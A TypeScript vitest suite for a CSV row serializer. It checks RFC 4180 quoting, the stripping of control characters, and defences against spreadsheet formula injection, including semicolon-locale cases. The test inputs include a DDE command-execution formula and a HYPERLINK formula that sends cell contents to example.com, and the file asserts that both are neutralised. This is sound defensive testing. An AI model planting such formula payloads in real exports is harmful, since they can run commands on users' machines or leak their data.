import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvRow } from '../../src/admin/csv.ts';

/** What RFC 4180 says that a row is: quotes only where they belong, a line end of CR and LF. */
const read = (row: string) => parse(row, { record_delimiter: '\r\n' });

describe('a row of CSV', () => {
  it('ends with CR and LF, and quotes only what needs it', () => {
    expect(csvRow(['a', 'b c', '', 'é €'])).toBe('a,b c,,é €\r\n');
    expect(csvRow(['a,b', 'say "no"', '"'])).toBe('"a,b","say ""no""",""""\r\n');
  });

  it('has no line end within, nor any other control character', () => {
    expect(csvRow(['a\nb', 'c\r\nd', 'e\u001b[2Jf'])).toBe('a�b,c��d,e�[2Jf\r\n');
  });

  it.each([
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.com?x="&A1,"click")',
    '+1+1',
    '-1+1',
    '-1-',
    '--1',
    '-',
    '-.5',
    '-1e5',
    '@SUM(A1:A9)',
    '\t=1+1',
    '\r=1+1',
    '＝1+1',
    '＠SUM(1)',
  ])('has no cell that begins as a formula: %j', (cell) => {
    const [[found = '', after] = []] = read(csvRow([cell, 'after']));
    expect(found.startsWith("'")).toBe(true);
    expect(after).toBe('after');
  });

  it.each([
    ['x;=1+1', "x;'=1+1"],
    [';=1', ";'=1"],
    ['-1;-2', "'-1;'-2"],
    ['x;;@SUM(1);y', "x;;'@SUM(1);y"],
    ['x;＝1', "x;'＝1"],
    ['x;"=1"', 'x;"\'=1"'],
    ['x;\t=1', "x;'\ufffd=1"],
  ])('begins no formula where a locale splits at semicolons: %j', (cell, harmless) => {
    expect(read(csvRow([cell, 'after']))).toEqual([[harmless, 'after']]);
  });

  it.each(['a;b', 'a; b-c;', 'x = 1;2', '-1', '-0.50', '-98765432109876543210.12', '12.30', "'=1", ' =1'])(
    'leaves %j as it is',
    (cell) => {
      expect(csvRow([cell])).toBe(`${cell}\r\n`);
    },
  );

  it.each(['a,b', 'say "no"', '"quoted"', ',', '""', 'plain', ''])('is read as it was written: %j', (cell) => {
    expect(read(csvRow(['before', cell, 'after']))).toEqual([['before', cell, 'after']]);
  });
});
